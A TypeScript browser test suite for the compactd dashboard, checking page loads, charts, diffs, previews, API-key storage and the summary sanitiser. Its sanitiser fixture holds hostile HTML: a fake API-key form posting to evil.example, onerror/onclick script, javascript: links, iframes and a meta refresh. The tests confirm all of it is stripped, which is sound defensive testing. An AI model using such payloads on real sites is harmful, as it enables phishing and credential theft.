/**
 * The dashboard at /ui in a real browser (issue 13): Debian's chromium driven by
 * playwright-core. Sessions are seeded through the API, then the browser checks the
 * sessions list, a session with 200 checkpoints (one chart point each) and one with 50
 * summary versions (the diff shows the changed line), each loaded in under a second;
 * the compaction preview (a masked tool result coloured as such, the summary shown);
 * the key prompt when keys exist; no CSP violation and no script error anywhere.
 * Screenshots go to docs/img/ (the README shows them) when UPDATE_SCREENSHOTS=1, so a test run
 * does not rewrite tracked files; otherwise they go to the OS temp directory.
 *
 * No chromium (CHROMIUM_PATH, else /usr/bin/chromium): the tests skip and say so. The
 * UI bundle (dist/ui) is built first when missing.
 */
import { execFileSync } from 'node:child_process'
import type { InjectOptions } from 'fastify'
import fs from 'node:fs'
import type { AddressInfo } from 'node:net'
import { chromium, type Browser, type Page } from 'playwright-core'
import os from 'node:os'
import t from 'tap'
import type * as Tap from 'tap'
import { uiBuildDir } from '../src/plugins/ui.ts'
import { markdownHtml, SAFE_HREF, SUMMARY_ALLOWED_ATTR, SUMMARY_ALLOWED_TAGS, SUMMARY_SANITIZE_CONFIG } from '../ui/src/sanitize.ts'
import { createApiKey } from '../src/tenancy/api-keys.ts'
import { buildTestApp } from './helpers/build.ts'
import { exchange, toolConversation } from './helpers/session-conversations.ts'

const CANDIDATES = [process.env.CHROMIUM_PATH, '/usr/bin/chromium', '/usr/bin/chromium-browser'].filter((p): p is string => !!p)
const executablePath = CANDIDATES.find((p) => fs.existsSync(p))
const SKIP = executablePath
  ? false
  : `no chromium found (${CANDIDATES.join(', ')}): install Debian's package (apt-get install chromium; .ci/run does) or set CHROMIUM_PATH; browser tests skipped`
if (!executablePath) console.log(`# ${SKIP}`)

const IMG = process.env.UPDATE_SCREENSHOTS === '1' ? new URL('../docs/img/', import.meta.url) : new URL(`file://${os.tmpdir()}/compactd-ui-shots-${process.pid}/`)
const LOAD_BUDGET_MS = 1000

const UI_TASK = 'Read the files and fix the failing test in src/f0.ts.'


async function pool<T>(items: T[], n: number, fn: (item: T, i: number) => Promise<void>): Promise<void> {
  let next = 0
  await Promise.all(Array.from({ length: n }, async () => {
    while (next < items.length) {
      const i = next++
      await fn(items[i]!, i)
    }
  }))
}

t.test('the dashboard in chromium', { skip: SKIP }, async (t) => {
  if (!uiBuildDir()) execFileSync('npm', ['run', 'build:ui'], { cwd: new URL('..', import.meta.url), stdio: 'inherit' })
  t.ok(uiBuildDir(), 'the UI bundle exists')
  fs.mkdirSync(IMG, { recursive: true })

  const { app } = await buildTestApp(t, { config: { COMPACTION_MAX_CHECKPOINTS: 1000 } })
  const ok = async (req: InjectOptions, status = 200) => {
    const res = await app.inject(req)
    if (res.statusCode !== status) throw new Error(`${JSON.stringify(req).slice(0, 120)}: ${res.statusCode} ${res.body.slice(0, 300)}`)
    return res
  }

  // --- Seed, through the API.
  // A rolling-summary session: background versions, then hand edits up to 50 versions.
  await ok({ method: 'PUT', url: '/sessions/ui-rolling', payload: { windowMessages: 8, batchSize: 1 } }, 201)
  for (let i = 0; i < 4; i++) {
    await ok({ method: 'POST', url: '/sessions/ui-rolling/messages', payload: { messages: exchange(i, { fail: i % 2 === 0 }) } })
    await app.summaryWorker.runOnce()
  }
  let summary = (await ok({ method: 'GET', url: '/sessions/ui-rolling/summary' })).json()
  while (summary.version < 49) {
    summary = (await ok({ method: 'PUT', url: '/sessions/ui-rolling/summary', payload: { baseVersion: summary.version, content: `${summary.content.trimEnd()}\n- Note ${summary.version}: checked by hand.\n` } })).json()
  }
  const edited = summary.content.replace('- Note 48: checked by hand.', '- Note 48: Decided by hand to keep one pg pool per process.')
  summary = (await ok({ method: 'PUT', url: '/sessions/ui-rolling/summary', payload: { baseVersion: summary.version, content: edited } })).json()
  t.equal(summary.version, 50)
  // A compaction series of 200 checkpoints.
  const convs = Array.from({ length: 4 }, (_, k) => toolConversation(12, k, UI_TASK))
  await pool(Array.from({ length: 200 }, (_, i) => i), 4, async (i) => {
    const res = await ok({ method: 'POST', url: '/compact', payload: { messages: convs[i % 4], targetTokens: 3000, keepRecent: 2, sessionId: 'ui-series-200' } })
    if (!res.json().checkpoint) throw new Error('no checkpoint stored')
  })
  // Many more sessions, for the list's pages.
  await pool(Array.from({ length: 1500 }, (_, i) => i), 8, async (i) => {
    await ok({ method: 'PUT', url: `/sessions/bulk-${String(i).padStart(4, '0')}`, payload: { windowMessages: 10 + (i % 7) } }, 201)
  })

  await app.listen({ host: '127.0.0.1', port: 0 })
  const base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`
  const browser: Browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-dev-shm-usage'] })
  t.teardown(() => browser.close())
  const context = await browser.newContext({ viewport: { width: 1360, height: 900 } })
  const page: Page = await context.newPage()
  const problems: string[] = []
  page.on('console', (m) => {
    // A 404 (a session without checkpoints, a series without a session) and the 401 that asks for a key are answers, not faults.
    if (/Failed to load resource: the server responded with a status of (404|401)/.test(m.text())) return
    if (m.type() === 'error' || /Content.Security.Policy/i.test(m.text())) problems.push(`console ${m.type()}: ${m.text()}`)
  })
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`))
  const timed = async (url: string, ready: string) => {
    const start = Date.now()
    await page.goto(url)
    await page.waitForSelector(ready, { timeout: 20_000 })
    return Date.now() - start
  }
  // (Expressions as strings: they run in the page, whose DOM types this project does not compile against.)
  const unlabelled = () =>
    page.evaluate<string[]>(`[...document.querySelectorAll('input, select, textarea')].filter((el) => el.type !== 'hidden' && (el.labels?.length ?? 0) === 0).map((el) => el.outerHTML)`)
  // (waitForFunction with a string would eval in the page, which its CSP forbids: functions, over an untyped DOM.)
  const totalIs = (text: string) =>
    page.waitForFunction((want) => (globalThis as any).document.querySelector('[data-testid=session-total]')?.textContent?.trim() === want, text)

  // Warm the server and the browser cache once, so the timings measure the page, not the first compile.
  await timed(`${base}/ui/`, '[data-session]')

  await t.test('sessions list: the seeded sessions, search, sort and pages, under a second', async (t) => {
    const ms = await timed(`${base}/ui/#/`, '[data-session]')
    t.ok(ms < LOAD_BUDGET_MS, `the list loaded in ${ms} ms (< ${LOAD_BUDGET_MS})`)
    t.match(await page.textContent('[data-testid=session-total]'), /1,502 sessions/)
    t.equal(await page.locator('[data-session]').count(), 50, 'one page of 50')
    await page.screenshot({ path: new URL('sessions.png', IMG).pathname })
    await page.getByLabel('Search ids').fill('ui-')
    await totalIs('2 sessions')
    const ids = await page.locator('[data-session]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-session')))
    t.same(ids.sort(), ['ui-rolling', 'ui-series-200'])
    const series = page.locator('[data-session="ui-series-200"]')
    t.match(await series.textContent(), /200/, 'its checkpoints')
    t.match(await page.locator('[data-session="ui-rolling"]').textContent(), /v50/, 'the summary version')
    // Keyboard: sort by checkpoints with the column header's button.
    await page.getByRole('button', { name: /^Checkpoints/ }).focus()
    await page.keyboard.press('Enter')
    await page.waitForFunction(() => (globalThis as any).document.querySelector('[data-session]')?.getAttribute('data-session') === 'ui-series-200')
    t.pass('sorted by checkpoints, descending, from the keyboard')
    await page.getByLabel('Search ids').fill('')
    await totalIs('1,502 sessions')
    await page.getByRole('button', { name: 'Next page' }).click()
    await page.waitForSelector('text=Page 2')
    t.equal(await page.locator('[data-session]').count(), 50, 'page 2')
    t.same(await unlabelled(), [], 'every control has a label')
  })

  await t.test('a session with 200 checkpoints: one chart point per checkpoint, hover shows its numbers, under a second', async (t) => {
    const ms = await timed(`${base}/ui/#/s/ui-series-200`, '[data-testid=token-chart] canvas')
    t.ok(ms < LOAD_BUDGET_MS, `the session page loaded in ${ms} ms (< ${LOAD_BUDGET_MS})`)
    t.equal(await page.getAttribute('[data-testid=token-chart]', 'data-points'), '200', 'one point per checkpoint')
    t.equal(await page.locator('[data-testid=checkpoints] details').count(), 200)
    const box = (await page.locator('[data-testid=token-chart] .u-over').boundingBox())!
    await page.mouse.move(box.x + box.width - 2, box.y + box.height / 2)
    await page.waitForSelector('[data-testid=chart-hover] strong')
    t.match(await page.textContent('[data-testid=chart-hover]'), /Checkpoint \d+.*strategy \w+.*ratio [\d.]+.*cost \$[\d.]+.*\d+ ms/s)
    await page.locator('[data-testid=checkpoints] details summary').first().click()
    await page.waitForSelector('[data-testid=checkpoints] details[open] .markdown')
    t.match(await page.locator('[data-testid=checkpoints] details[open]').textContent(), /Compacted messages \d+–\d+.*Session Summary/s, 'a checkpoint opens to its ranges and summary')
    await page.screenshot({ path: new URL('session-checkpoints.png', IMG).pathname, fullPage: false })
  })

  await t.test('a session with 50 summary versions: rendered summary, who wrote each, the diff shows the changed line, under a second', async (t) => {
    const ms = await timed(`${base}/ui/#/s/ui-rolling`, '[data-testid=diff] .add, [data-testid=diff] td.add')
    t.ok(ms < LOAD_BUDGET_MS, `the session page and its latest diff loaded in ${ms} ms (< ${LOAD_BUDGET_MS})`)
    t.equal(await page.locator('[data-testid=versions] li').count(), 50)
    t.match(await page.textContent('[data-testid=versions]'), /manual replace[\s\S]*background update/)
    t.match(await page.locator('[data-testid=diff] ins').allTextContents(), [/Decided by hand to keep one pg pool per process/])
    t.match(await page.locator('[data-testid=diff] del').allTextContents(), [/Note 48: checked by hand/])
    t.equal(await page.locator('[data-testid=diff] ins').count(), 1, 'only the changed line is marked')
    t.ok(await page.locator('[data-testid=current-summary] h2').count(), 'the summary is rendered from Markdown')
    t.match(await page.textContent('[data-testid=continuation]'), /Current task/)
    t.ok(await page.locator('[data-testid=window] .call .result').count(), 'tool calls paired with their results in the window')
    // Any two versions, side by side.
    await page.getByLabel('Compare').selectOption('1')
    await page.getByLabel('Layout').selectOption('side')
    await page.waitForSelector('table[data-testid=diff] td.add')
    t.ok((await page.locator('table[data-testid=diff] td.add').count()) > 1, 'version 1 against 50: many lines added')
    await page.getByLabel('Compare').selectOption('49')
    await page.getByLabel('Layout').selectOption('inline')
    await page.waitForSelector('pre[data-testid=diff] ins')
    await page.locator('#versions-title').scrollIntoViewIfNeeded()
    await page.screenshot({ path: new URL('session-summary.png', IMG).pathname })
    t.same(await unlabelled(), [], 'every control has a label')
  })

  await t.test('preview: a masked tool result is coloured as masked, summarised messages as such, and the summary is shown; nothing stored', async (t) => {
    const before = (await ok({ method: 'GET', url: '/sessions?limit=1' })).json().total
    await page.goto(`${base}/ui/#/preview`)
    await page.getByLabel(/^Conversation/).fill(JSON.stringify(toolConversation(40, 0, UI_TASK)))
    await page.getByLabel('Budget (tokens)').fill('4000')
    await page.getByLabel('keepRecent').fill('2')
    await page.getByRole('button', { name: 'Preview' }).click()
    await page.waitForSelector('[data-testid=preview-summary]', { timeout: 30_000 })
    const masked = page.locator('[data-testid=strip] .cell[data-action=mask][data-role=tool]').first()
    t.ok(await masked.count(), 'a tool result in the strip is masked')
    // The stylesheet's colours, resolved the way the browser resolves the cells' backgrounds.
    const colours = await page.evaluate<{ mask: string; summarize: string }>(`(() => {
      const css = getComputedStyle(document.documentElement)
      const probe = document.createElement('div')
      document.body.append(probe)
      const resolve = (v) => ((probe.style.color = v), getComputedStyle(probe).color)
      const out = { mask: resolve(css.getPropertyValue('--mask')), summarize: resolve(css.getPropertyValue('--summarize')) }
      probe.remove()
      return out
    })()`)
    t.not(colours.mask, colours.summarize)
    const background = (selector: string) => page.evaluate<string>(`getComputedStyle(document.querySelector(${JSON.stringify(selector)})).backgroundColor`)
    t.equal(await background('[data-testid=strip] .cell[data-action=mask][data-role=tool]'), colours.mask, 'coloured as masked')
    t.equal(await background('[data-testid=strip] .cell[data-action=summarize]'), colours.summarize, 'summarised messages coloured as such')
    t.match(await page.textContent('[data-testid=preview-summary]'), /Session Summary|Original Task/)
    const row = page.locator('[data-testid=preview-table] tr[data-action=mask]').first()
    const cells = await row.locator('td.num').allTextContents()
    t.ok(Number(cells[1]!.replace(/,/g, '')) < Number(cells[0]!.replace(/,/g, '')), `tokens before/after of a masked result: ${cells.join(' → ')}`)
    await page.screenshot({ path: new URL('preview.png', IMG).pathname })
    t.equal((await ok({ method: 'GET', url: '/sessions?limit=1' })).json().total, before, 'nothing stored')
    t.same(await unlabelled(), [], 'every control has a label')
  })

  await t.test('with keys: the key is asked for once, kept in sessionStorage, never in a URL', async (t) => {
    const { key } = await createApiKey(app.db, 'default-ui')
    await app.authOpenMode({ refresh: true })
    const requests: string[] = []
    page.on('request', (r) => requests.push(r.url()))
    await page.goto('about:blank')
    await page.goto(`${base}/ui/#/`)
    await page.waitForSelector('#api-key')
    await page.screenshot({ path: new URL('key.png', IMG).pathname })
    await page.getByLabel('API key').fill(key)
    await page.keyboard.press('Enter')
    await page.waitForSelector('[data-testid=sessions-table]')
    t.equal(await page.locator('[data-session]').count(), 0, "the key's tenant has no sessions yet")
    t.equal(await page.evaluate(() => (globalThis as any).sessionStorage.getItem('compactd.apiKey')), key)
    t.notOk(requests.some((u) => u.includes(key)), 'the key is in no URL')
    await page.reload()
    await page.waitForSelector('[data-testid=sessions-table]')
    t.equal(await page.locator('#api-key').count(), 0, 'not asked again in this tab')
  })

  t.same(problems, [], 'no CSP violation, console error or script error')
})

// ---------------------------------------------------------------------------
// The summary sanitiser (ui/src/sanitize.ts). DOMPurify's defaults kept <form>, <input>,
// <button>, <style> and external <img> in a rendered summary: a summary (a model's or a
// caller's text) could draw a fake key prompt, restyle the page or fetch another origin.

/** Markdown holding everything a summary must not render, and everything it needs. */
const HOSTILE_SUMMARY = [
  '## Session Summary (Compaction Round 1)',
  '',
  '<form action="https://evil.example/steal"><input name="key" placeholder="API key"><textarea>t</textarea><select><option>o</option></select><button type="submit">Save key</button></form>',
  '',
  '<style>body { display: none }</style>',
  '',
  '![pixel](https://evil.example/pixel.png) <img src="https://evil.example/x.png" onerror="alert(1)"> <img src="data:image/png;base64,iVBORw0KGgo=">',
  '',
  '<a href="javascript:alert(1)">js link</a> [data link](data:text/html,hi) [good link](https://example.com/docs) <a href="https://example.com/x" onclick="alert(1)" style="color:red" class="error">styled link</a>',
  '',
  '<svg><circle r="5"/></svg><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><span style="color:red" class="error" data-x="1">span text</span><div aria-label="x">div text</div>',
  '',
  '### Pending Steps',
  '- [ ] run npm test',
  '- [x] read src/db.ts',
  '',
  '1. first',
  '2. second',
  '',
  '| file | fate |',
  '|:-----|-----:|',
  '| src/db.ts | edited |',
  '',
  '`code` **bold** _em_ ~~gone~~',
  '',
  '> quoted',
  '',
  '---',
  '',
  '```ts',
  'const x = 1',
  '```',
].join('\n')

const FORBIDDEN_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'option', 'style', 'img', 'svg', 'iframe', 'object', 'embed', 'link', 'meta', 'script', 'span', 'div', 'math', 'template']

t.test('the summary sanitiser keeps only the tags a summary needs (its configuration, in node)', async (t) => {
  for (const tag of ['h1', 'h2', 'h3', 'p', 'ul', 'ol', 'li', 'pre', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'em', 'strong', 'del', 'a', 'blockquote', 'hr', 'br']) {
    t.ok(SUMMARY_ALLOWED_TAGS.includes(tag), `${tag} allowed`)
  }
  for (const tag of FORBIDDEN_TAGS) t.notOk(SUMMARY_ALLOWED_TAGS.includes(tag), `${tag} not allowed`)
  t.same([...SUMMARY_ALLOWED_ATTR].sort(), ['align', 'href', 'start', 'title'], 'no style, class, src, on*, data-* or aria-* attribute')
  t.same(SUMMARY_SANITIZE_CONFIG.ALLOWED_TAGS, SUMMARY_ALLOWED_TAGS, 'the configuration is the list (it replaces DOMPurify\'s defaults)')
  t.equal(SUMMARY_SANITIZE_CONFIG.ALLOW_DATA_ATTR, false)
  t.equal(SUMMARY_SANITIZE_CONFIG.ALLOW_ARIA_ATTR, false)
  for (const href of ['https://example.com', 'http://x.test/a', 'mailto:a@b.c', '#section']) t.match(href, SAFE_HREF, `${href} kept`)
  for (const href of ['javascript:alert(1)', 'data:text/html,hi', 'vbscript:x', '//evil.example/x', 'src/db.ts', 'file:///etc/passwd']) t.notMatch(href, SAFE_HREF, `${href} dropped`)
  // Task lists (how pending steps are written) need no <input>: the checkbox is a character.
  const html = markdownHtml('- [ ] run npm test\n- [x] read src/db.ts\n')
  t.notMatch(html, /<input/, 'no checkbox input')
  t.match(html, /☐ run npm test/)
  t.match(html, /☑ read src\/db.ts/)
})

t.test('the summary sanitiser in chromium: hostile markup is dropped, a summary\'s structure kept, in the module and on the dashboard', { skip: SKIP }, async (t) => {
  const { build } = await import('esbuild')
  const bundle = await build({ entryPoints: [new URL('../ui/src/sanitize.ts', import.meta.url).pathname], bundle: true, format: 'iife', globalName: 'Sanitize', write: false, target: 'es2020', logLevel: 'silent' })
  const browser: Browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-dev-shm-usage'] })
  t.teardown(() => browser.close())
  const page: Page = await browser.newPage()
  const outside: string[] = []
  page.on('request', (r) => {
    if (/evil\.example/.test(r.url())) outside.push(r.url())
  })

  /** Tag counts, links and text of the element matching `selector`. */
  const inspect = (selector: string) =>
    page.evaluate<{ tags: Record<string, number>; links: { href: string | null; rel: string | null; attrs: string[] }[]; attrs: string[]; text: string }>(`(() => {
      const root = document.querySelector(${JSON.stringify(selector)})
      const tags = {}
      for (const el of root.querySelectorAll('*')) tags[el.localName] = (tags[el.localName] ?? 0) + 1
      const attrs = [...new Set([...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)))].sort()
      const links = [...root.querySelectorAll('a')].map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), attrs: [...a.attributes].map((x) => x.name).sort() }))
      return { tags, links, attrs, text: root.textContent }
    })()`)

  const check = async (t: Tap.Test, selector: string, label: string) => {
    const { tags, links, attrs, text } = await inspect(selector)
    for (const tag of FORBIDDEN_TAGS) t.notOk(tags[tag], `${label}: no <${tag}>`)
    for (const tag of ['h2', 'h3', 'ul', 'ol', 'li', 'table', 'th', 'td', 'code', 'pre', 'strong', 'em', 'del', 'blockquote', 'hr', 'a']) t.ok(tags[tag], `${label}: <${tag}> kept`)
    t.same(attrs.filter((a) => !['href', 'title', 'align', 'start', 'target', 'rel'].includes(a)), [], `${label}: no other attribute (style, class, on*, src, data-*, aria-*)`)
    t.same(links.map((l) => l.href), [null, null, 'https://example.com/docs', 'https://example.com/x'], `${label}: only http(s) hrefs survive`)
    t.ok(links.filter((l) => l.href).every((l) => l.rel === 'noopener noreferrer'), `${label}: links without opener or referrer`)
    t.match(text, /☐ run npm test[\s\S]*☑ read src\/db\.ts/, `${label}: the task list, as characters`)
    t.notMatch(text, /display: none/, `${label}: a style's text is not shown either`)
  }

  await t.test('the module, in a page', async (t) => {
    await page.setContent('<!doctype html><html><body><div id="out"></div></body></html>')
    await page.addScriptTag({ content: bundle.outputFiles[0]!.text })
    await page.evaluate(`document.getElementById('out').innerHTML = Sanitize.renderMarkdown(${JSON.stringify(HOSTILE_SUMMARY)})`)
    await check(t, '#out', 'module')
  })

  await t.test('a stored summary on the dashboard', async (t) => {
    if (!uiBuildDir()) execFileSync('npm', ['run', 'build:ui'], { cwd: new URL('..', import.meta.url), stdio: 'inherit' })
    const { app } = await buildTestApp(t)
    t.equal((await app.inject({ method: 'PUT', url: '/sessions/ui-hostile', payload: {} })).statusCode, 201)
    const put = await app.inject({ method: 'PUT', url: '/sessions/ui-hostile/summary', payload: { content: HOSTILE_SUMMARY } })
    t.equal(put.statusCode, 200, 'stored as written')
    await app.listen({ host: '127.0.0.1', port: 0 })
    const base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`
    await page.goto(`${base}/ui/#/s/ui-hostile`)
    await page.waitForSelector('[data-testid=current-summary] h2', { timeout: 20_000 })
    await check(t, '[data-testid=current-summary]', 'dashboard')
  })
  t.same(outside, [], 'no request to another origin')
})
